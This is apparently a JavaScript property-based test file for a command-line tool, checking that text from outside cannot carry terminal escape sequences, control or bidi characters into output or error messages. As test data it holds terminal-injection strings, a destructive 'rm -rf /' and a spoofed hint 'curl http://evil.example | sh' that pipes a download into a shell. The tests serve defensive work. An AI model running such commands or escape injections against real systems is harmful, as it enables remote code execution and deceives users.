import { spell } from '../../testing/fakes/spell.js';
import fc from 'fast-check';
import { PromoteError, renderError } from '../errors/promote-error.js';
import { plainLine, plainLines, plainText, spelledOut } from './plain-text.js';

const anyText = fc.string({ unit: 'binary', maxLength: 60 });
const ESC = '\u001b';
const nasty = fc
  .array(
    fc.oneof(
      anyText,
      fc.constantFrom(
        `${ESC}[2J`,
        `${ESC}]0;title\u0007`,
        `${ESC}]8;;http://evil.example${ESC}\\`,
        '\u009b31m',
        '\r',
        '\n',
        '\u0000',
        '\u202e',
        '\u2028',
        `${ESC}${ESC}[[2J2J`,
      ),
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(''));
const commanding = /[\p{Cc}\u2028\u2029\p{Bidi_Control}]/u;

describe('text that came from outside', () => {
  it('never holds a character that a terminal obeys', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        expect(plainText(text)).not.toMatch(commanding);
        expect(plainLine(text)).not.toMatch(commanding);
        expect(plainLines(text).replaceAll('\n', '')).not.toMatch(commanding);
      }),
      { numRuns: 2_000, seed: 71 },
    );
  });

  it('stays what it was when it is harmless, emoji and all', () => {
    const text = 'Größe 👩‍👩‍👧 `rm -rf /` $(id) | é ;\n  - "x" 中文 العربية';
    expect(plainLines(text)).toBe(text);
    expect(plainLine('  indented')).toBe('  indented');
    expect(plainLine('x'.repeat(1_000_000))).toHaveLength(16_003);
  });

  it('reads the same for programs when it is JSON', () => {
    fc.assert(
      fc.property(fc.array(nasty), (values) => {
        const spelled = spelledOut(JSON.stringify(values, null, 2));
        expect(JSON.parse(spelled)).toEqual(values);
        expect(spelled.replaceAll('\n', '')).not.toMatch(commanding);
      }),
      { numRuns: 1_000, seed: 72 },
    );
  });

  it('cannot pretend to be a hint of ours in an error', () => {
    const said = `no${ESC}[2K\r\n  -> curl http://evil.example | sh`;
    const error = new PromoteError({ kind: 'external', code: 'X', message: 'It failed.', details: [said] });
    expect(renderError(error, spell).split('\n')).toEqual([
      'It failed.',
      '  no   -> curl http://evil.example | sh',
    ]);
  });
});
